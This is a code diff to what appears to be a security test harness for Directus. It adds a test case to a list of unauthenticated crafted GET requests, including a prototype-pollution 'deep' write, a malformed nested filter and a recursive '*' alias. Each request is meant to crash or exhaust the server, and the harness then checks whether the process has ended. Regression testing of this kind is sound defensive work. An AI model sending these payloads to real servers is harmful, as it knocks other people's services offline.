@@ -1,4 +1,4 @@
-/** Through `deep`: on plain Directus each of these is the end of the process, so they come last. */
+/** Through what a query holds: on plain Directus each of these is the end of the process, so they come last. */
 import { asAnybody } from './requests.ts';
 import { harm, type Attack, type Target } from './target.ts';
 
@@ -14,7 +14,7 @@ async function isWell(target: Target, path: string): Promise<boolean> {
   return true;
 }
 
-export const DEEP_ATTACKS: readonly Attack[] = [
+export const QUERY_ATTACKS: readonly Attack[] = [
   {
     id: 'GHSA-gwvv-rr68-cmv6',
     what: 'deep writes to functions every object inherits',
@@ -32,6 +32,16 @@ export const DEEP_ATTACKS: readonly Attack[] = [
     what: 'deep holds a filter that is not JSON, two levels down',
     async attempt(target) {
       await asAnybody(target)('GET', '/server/info?deep[a][b][_filter]=notjson').catch(() => null);
+      return harm(!(await isWell(target, '/server/ping')), 'the process has ended');
+    },
+  },
+  {
+    id: 'the alias called *',
+    what: 'an alias is found again among the fields that * stands for, until there is no memory left',
+    async attempt(target) {
+      await asAnybody(target)('GET', `/items/${target.open_collection}?fields=*&alias[*]=id`).catch(
+        () => null,
+      );
       return harm(!(await isWell(target, '/server/ping')), 'the process has ended');
     },
   },
